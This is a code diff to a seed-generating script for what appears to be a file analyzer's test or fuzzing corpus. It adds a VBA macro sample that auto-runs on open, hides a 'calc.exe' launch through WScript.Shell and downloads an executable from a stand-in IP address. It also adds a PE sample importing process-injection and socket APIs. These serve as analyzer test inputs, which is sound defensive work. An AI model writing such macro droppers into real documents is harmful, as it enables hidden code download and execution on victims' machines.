@@ -16,6 +16,16 @@ import fixtures  # noqa: E402
 PARSER_OF = {"ooxml": "zip", "odf": "zip"}
 
 
+def _write_variants(out, parser, name, data):
+    d = os.path.join(out, parser)
+    os.makedirs(d, exist_ok=True)
+    variants = [("whole", data)] + fixtures.broken_variants(data, seed=len(name))
+    for label, blob in variants:
+        with open(os.path.join(d, "%s-%s" % (name, label)), "wb") as f:
+            f.write(blob)
+    return len(variants)
+
+
 def main(out):
     written = {}
     for fmt in fixtures.FORMATS:
@@ -43,6 +53,25 @@ def main(out):
         with open(os.path.join(d, "uue-" + label), "wb") as f:
             f.write(blob)
     written["uuencode"] = written.get("uuencode", 0) + 1
+    # Macro source for the VBA analyzer (what unpack_vba.c emits as type "vba").
+    vba = (b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
+           b'  Dim s As String: s = StrReverse("exe.clac") & Chr(32) & "x"\r\n'
+           b'  Set o = CreateObject("WScript.Shell"): o.Run "cmd /c " & s, 0 _\r\n'
+           b'    , False\r\n  URLDownloadToFile 0, "http://192.0.2.7/a.exe", "a.exe", 0, 0\r\n'
+           b"  ' a comment with Shell in it\r\nEnd Sub\r\n")
+    written["vba"] = _write_variants(out, "vba", "macro", vba)
+    # Programs for the analyze target: a PE built by tests/gen/pe_sample.py and a copy of a
+    # small system ELF binary.
+    import pe_sample  # noqa: E402
+    pe = pe_sample.pe_bytes(imports=[("KERNEL32.dll", ["VirtualAllocEx", "WriteProcessMemory"]),
+                                     ("WS2_32.dll", ["connect", "send"])],
+                            strings=[b"cmd.exe /c del"])
+    written["analyze"] = _write_variants(out, "analyze", "pe", pe)
+    for elf in ("/usr/bin/true", "/bin/true"):
+        if os.path.exists(elf):
+            with open(elf, "rb") as f:
+                written["analyze"] += _write_variants(out, "analyze", "elf", f.read())
+            break
     for k in sorted(written):
         print("seeds: %-10s %d" % (k, written[k]))
 
